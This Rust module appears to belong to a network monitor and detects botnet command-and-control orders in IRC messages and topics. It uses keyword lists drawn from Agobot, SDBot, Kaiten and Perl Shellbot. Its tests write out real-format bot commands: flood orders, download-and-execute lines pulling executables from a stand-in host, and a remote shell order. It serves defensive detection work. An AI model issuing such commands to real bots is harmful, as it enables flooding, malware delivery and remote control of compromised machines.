//! Orders to bots, by the grammar of the families that are known to take them.
//!
//! - Agobot and its kin, `.ddos.synflood HOST PORT SECONDS`, `.pctrl.kill`: Barford and Yegneswaran,
//!   An inside look at botnets, 2006.
//! - SDBot and its kin, `.advscan lsass 200 5 0 -r`, `.http.update URL FILE 1`, as a topic too:
//!   Bächer, Holz, Kötter and Wicherski, Know your enemy: tracking botnets, 2005.
//! - Kaiten, `!* PAN HOST PORT SECONDS`: the help that the bot itself gives.
//! - Bots in Perl, `!u @udpflood HOST BYTES SECONDS`: Trend Micro, Perl-based Shellbot, 2018.
//!
//! Bias: a verb alone is none. People type `!seen`, `.update` and `!scan bob` to bots of their
//! channels, so that what follows the verb must be what such a bot needs.

use ostium_event::Order;

/// Before a verb, as their owners set it.
const MARKS: &[u8] = b".!$@&%-^~*";
/// Words of an order that are looked at.
const MOST_WORDS: usize = 12;
/// The longest number.
const MOST_DIGITS: usize = 7;

/// Starts a scan whatever follows, as long as something does.
const ADVANCED_SCAN: [&str; 2] = ["advscan", "adv.start"];
/// Scans what the first word says, with so many threads and such a pause.
const SCAN: [&str; 9] =
    ["scan", "asc", "ascan", "ntscan", "xscan", "rscan", "ipscan", "portscan", "sshscan"];
/// Of Agobot, whatever follows.
const SCAN_ALONE: [&str; 5] =
    ["scan.start", "scan.startall", "scan.enable", "scan.addnetrange", "scan.addnetranges"];
/// Names of floods, which want a victim and a number.
const FLOOD: [&str; 14] = [
    "udpflood",
    "synflood",
    "tcpflood",
    "icmpflood",
    "pingflood",
    "httpflood",
    "ackflood",
    "supersyn",
    "http.flood",
    "udp.flood",
    "tcp.flood",
    "syn.flood",
    "icmp.flood",
    "wonk",
];
/// The same, of names so short that they want a victim and two numbers.
const SHORT_FLOOD: [&str; 5] = ["syn", "udp", "tcp", "icmp", "ack"];
const FETCH: [&str; 9] =
    ["download", "update", "dl", "upd", "wget", "dlexec", "dwnld", "down", "execute"];
const FETCH_BY_HTTP: [&str; 3] = ["http.download", "http.update", "http.execute"];
const FETCH_BY_FTP: [&str; 3] = ["ftp.download", "ftp.update", "ftp.execute"];
/// Of Agobot: processes, keys, addresses, services.
const CONTROL: [&str; 19] = [
    "bot.execute",
    "bot.sysinfo",
    "bot.removeallbut",
    "pctrl.list",
    "pctrl.kill",
    "pctrl.listsvc",
    "pctrl.killsvc",
    "harvest.cdkeys",
    "harvest.emails",
    "harvest.emailshttp",
    "harvest.aol",
    "harvest.registry",
    "harvest.windowskeys",
    "inst.asadd",
    "inst.svcadd",
    "redirect.tcp",
    "redirect.gre",
    "redirect.socks",
    "cvar.set",
];
/// Endings of programs.
const PROGRAMS: [&str; 8] = [".exe", ".scr", ".pif", ".bat", ".dll", ".sh", ".pl", ".elf"];
const URLS: [&str; 3] = ["http://", "https://", "ftp://"];
/// Floods and scans of bots in Perl, after an `@`.
const PERL_FLOOD: [&str; 6] = ["udpflood", "tcpflood", "httpflood", "sqlflood", "synflood", "udp1"];
const PERL_SCAN: [&str; 4] = ["portscan", "fullportscan", "multiscan", "nmap"];

/// The order that a message is.
pub(super) fn of(text: &[u8]) -> Option<Order> {
    let mut words = [&[][..]; MOST_WORDS];
    let mut count = 0;
    let all = plain(text).split(|byte| byte.is_ascii_whitespace()).filter(|w| !w.is_empty());
    for (to, word) in words.iter_mut().zip(all) {
        *to = word;
        count += 1;
    }
    let (first, rest) = words.get(..count)?.split_first()?;
    if let Some(order) = of_kaiten(first, rest).or_else(|| of_perl(first, rest)) {
        return Some(order);
    }
    let (mark, verb) = first.split_first()?;
    if !MARKS.contains(mark) {
        return None;
    }
    let is = |list: &[&str]| list.iter().any(|known| verb.eq_ignore_ascii_case(known.as_bytes()));
    let numbers = rest.iter().filter(|word| is_number(word)).count();
    let victim = rest.iter().take(2).any(|word| is_place(word));
    let url = rest.first().is_some_and(|word| is_url(word));
    let ddos = verb.get(..5).is_some_and(|start| start.eq_ignore_ascii_case(b"ddos."));
    let found = [
        (is(&ADVANCED_SCAN) && !rest.is_empty() || is(&SCAN_ALONE), Order::Scan),
        (
            is(&SCAN) && rest.get(1..3).is_some_and(|two| two.iter().all(|w| is_number(w))),
            Order::Scan,
        ),
        ((is(&FLOOD) || ddos) && victim && numbers >= 1, Order::Flood),
        (
            is(&SHORT_FLOOD) && rest.first().is_some_and(|w| is_place(w)) && numbers >= 2,
            Order::Flood,
        ),
        (is(&FETCH_BY_HTTP) && url || is(&FETCH_BY_FTP) && rest.len() >= 2, Order::Fetch),
        (is(&FETCH) && url && runs(rest), Order::Fetch),
        (is(&CONTROL), Order::Control),
    ];
    found.into_iter().find(|(holds, _)| *holds).map(|(_, order)| order)
}

/// The order that a topic is, or one of its parts.
pub(super) fn of_topic(text: &[u8]) -> Option<Order> {
    text.split(|byte| matches!(byte, b'|' | b';')).find_map(of)
}

/// `!* VERB ...` or `!NICK VERB ...`, in capitals.
fn of_kaiten(first: &[u8], rest: &[&[u8]]) -> Option<Order> {
    if first.len() < 2 || first.first() != Some(&b'!') {
        return None;
    }
    let (verb, rest) = rest.split_first()?;
    let seconds = rest.last().is_some_and(|word| is_number(word));
    let victim = rest.first().is_some_and(|word| is_place(word)) && seconds;
    match *verb {
        b"TSUNAMI" | b"UNKNOWN" if rest.len() == 2 && victim => Some(Order::Flood),
        b"PAN" | b"UDP" if rest.len() == 3 && victim => Some(Order::Flood),
        b"GET" if rest.len() == 2 && rest.first().is_some_and(|word| is_url(word)) => {
            Some(Order::Fetch)
        }
        b"SH" if first == b"!*" && !rest.is_empty() => Some(Order::Control),
        _ => None,
    }
}

/// `!u @verb ...`.
fn of_perl(first: &[u8], rest: &[&[u8]]) -> Option<Order> {
    let (verb, rest) = rest.split_first()?;
    let (b'!', b"@") = (*first.first()?, verb.get(..1)?) else { return None };
    let name = verb.get(1..)?;
    let is = |list: &[&str]| list.iter().any(|known| name.eq_ignore_ascii_case(known.as_bytes()));
    let place = rest.first().is_some_and(|word| is_place(word) || is_url(word));
    match (is(&PERL_FLOOD), is(&PERL_SCAN)) {
        (true, _) if place => Some(Order::Flood),
        (_, true) if place => Some(Order::Scan),
        _ => None,
    }
}

/// What is fetched is a program, or is put somewhere, or is run.
fn runs(rest: &[&[u8]]) -> bool {
    let program = |word: &[u8]| {
        PROGRAMS.iter().any(|end| {
            let tail = word.len().checked_sub(end.len()).and_then(|at| word.get(at..));
            tail.is_some_and(|tail| tail.eq_ignore_ascii_case(end.as_bytes()))
        })
    };
    let path =
        |word: &[u8]| word.contains(&b'\\') || word.starts_with(b"/") || word.contains(&b'%');
    rest.first().is_some_and(|word| program(word))
        || rest.get(1).is_some_and(|word| program(word) || path(word))
}

/// Without the codes of colours that text may begin with.
fn plain(text: &[u8]) -> &[u8] {
    let codes = |byte: &u8| byte.is_ascii_control() || *byte == b' ';
    let start = text.iter().position(|byte| !codes(byte)).unwrap_or(text.len());
    let (before, rest) = text.split_at_checked(start).unwrap_or_default();
    if before.last() != Some(&3) {
        return rest;
    }
    // A colour is one or two numbers of up to two digits.
    let digits = rest.iter().take_while(|byte| byte.is_ascii_digit() || **byte == b',').take(5);
    rest.get(digits.count()..).unwrap_or_default()
}

fn is_number(word: &[u8]) -> bool {
    (1..=MOST_DIGITS).contains(&word.len()) && word.iter().all(u8::is_ascii_digit)
}

/// An address or a name of a machine.
fn is_place(word: &[u8]) -> bool {
    let letters = word.iter().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b':'));
    let inner = word.get(1..word.len().saturating_sub(1)).unwrap_or_default();
    (4..=253).contains(&word.len()) && letters && inner.contains(&b'.')
}

fn is_url(word: &[u8]) -> bool {
    URLS.iter().any(|start| {
        let begin = word.get(..start.len());
        word.len() > start.len()
            && begin.is_some_and(|begin| begin.eq_ignore_ascii_case(start.as_bytes()))
    })
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn orders_of_known_families() {
        for (text, order) in [
            (".advscan lsass 200 5 0 -r -s", Order::Scan),
            ("!advscan asn1smb 150 5 0 -b", Order::Scan),
            (".scan 445 20 5 0 -r", Order::Scan),
            (".asc netapi 100 5 0 -b -r", Order::Scan),
            (".scan.startall", Order::Scan),
            ("!u @portscan 192.0.2.7", Order::Scan),
            (".ddos.synflood shop.example 80 120", Order::Flood),
            ("!udpflood 192.0.2.7 1000 4096 100", Order::Flood),
            (".tcpflood syn 192.0.2.7 80 300", Order::Flood),
            (".http.flood shop.example 60", Order::Flood),
            ("$udp 192.0.2.7 10000 2048 50 53", Order::Flood),
            ("!* PAN 192.0.2.7 80 60", Order::Flood),
            ("!* TSUNAMI 192.0.2.7 60", Order::Flood),
            ("!bot @udpflood 192.0.2.7 1024 60", Order::Flood),
            (".http.update http://192.0.2.9/~m/r.exe c:\\windows\\m.exe 1", Order::Fetch),
            (".download http://192.0.2.9/a.txt %temp%\\a.exe 1", Order::Fetch),
            ("!update http://192.0.2.9/new.exe", Order::Fetch),
            ("\x02\x0304,01.download http://192.0.2.9/x.exe x.exe 1", Order::Fetch),
            ("!* GET http://192.0.2.9/k /tmp/k", Order::Fetch),
            (".pctrl.kill avp", Order::Control),
            ("!* SH uname -a", Order::Control),
        ] {
            assert_eq!(of(text.as_bytes()), Some(order), "{text}");
        }
        let topic = b"quiet; .asc lsass 100 5 0 -r|.http.update http://192.0.2.9/a b.exe 1";
        assert_eq!(of_topic(topic), Some(Order::Scan));
    }

    #[test]
    fn what_people_type_to_the_bots_of_their_channels() {
        for text in [
            "!seen bob",
            "!op",
            "!op bob",
            "!deop",
            "!kick bob flood",
            "!ban *!*@host flood 10",
            "!update",
            "!update the wiki please",
            "!update https://example.org/page",
            "!download https://example.org/film.mkv",
            "!dl https://example.org/film.mkv to the nas",
            ".download",
            ".scan bob",
            "!scan 192.0.2.7",
            "!scan 192.0.2.7 80",
            ".ping example.org",
            "!ping 5 5",
            "!udp",
            "!udp or tcp 5 or 6?",
            ".tcp is better than .udp 100 times",
            "!flood 5 10",
            ".weather 20851",
            "!8ball will it rain",
            "!roll 2 20 5",
            "!quote 100 5 0",
            "!help scan.start",
            "!bob GET a room",
            "!bob SH ut up",
            "!tell bob @udpflood is a bad word",
            ".sysinfo",
            ".uptime",
            "!trace",
            ".clones",
            "@voice bob",
            "!math 3.14 2 7",
            "<carl> .udp 192.0.2.7 1000 4096 100 80",
            "try .udp 192.0.2.7 1000 4096 100 80",
            "",
            " ",
            "!",
            ".",
        ] {
            assert_eq!(of(text.as_bytes()), None, "{text}");
        }
        for topic in [
            "Welcome to #garden | !help for commands | https://example.org/rules",
            "!scan your machine before you ask for help | no floods; be nice",
            "release 2.1 is out: https://example.org/r.exe | !download https://example.org/r.tar.gz",
        ] {
            assert_eq!(of_topic(topic.as_bytes()), None, "{topic}");
        }
    }

    proptest! {
        #[test]
        fn any_bytes_have_an_answer(bytes in prop::collection::vec(any::<u8>(), 0..200)) {
            of(&bytes);
            of_topic(&bytes);
        }

        /// Sentences with any of the marks before them.
        #[test]
        fn sentences_are_no_orders(mark in "[.!$@&%^~*-]?", words in "[a-z]{1,9}( [a-z]{1,9}){0,8}") {
            let text = format!("{mark}{words}");
            prop_assume!(!text.contains("advscan"));
            prop_assert_eq!(of(text.as_bytes()), None, "{}", text);
        }
    }
}
